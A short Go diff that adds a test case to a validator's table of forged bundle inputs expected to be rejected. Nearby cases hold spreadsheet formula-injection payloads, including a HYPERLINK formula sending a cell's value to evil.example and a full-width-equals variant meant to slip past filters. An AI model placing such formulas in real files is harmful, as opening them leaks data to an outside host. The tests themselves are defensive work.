@@ -286,6 +286,7 @@ func editedForgeries() map[string]forgery {
 		"a table's row added":                   {edited(func(p *parts) { f := p.get("access.csv"); f.data = append(f.data, "x\r\n"...) }), bundle.WrongTable, bundle.Options{}},
 		"a formula for a platform's id":         {identified(`"=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`), bundle.WrongTable, bundle.Options{}},
 		"a formula without quotes":              {identified("@SUM(A1)"), bundle.WrongTable, bundle.Options{}},
+		"a formula in wide letters":             {identified("＝HYPERLINK(1)"), bundle.WrongTable, bundle.Options{}},
 		"a platform's id quoted for nothing":    {identified(`"emp1"`), bundle.WrongTable, bundle.Options{}},
 		"a platform's id of two cells":          {identified("emp,1"), bundle.WrongTable, bundle.Options{}},
 		"a platform's id with a quote":          {identified(`emp"1`), bundle.WrongTable, bundle.Options{}},
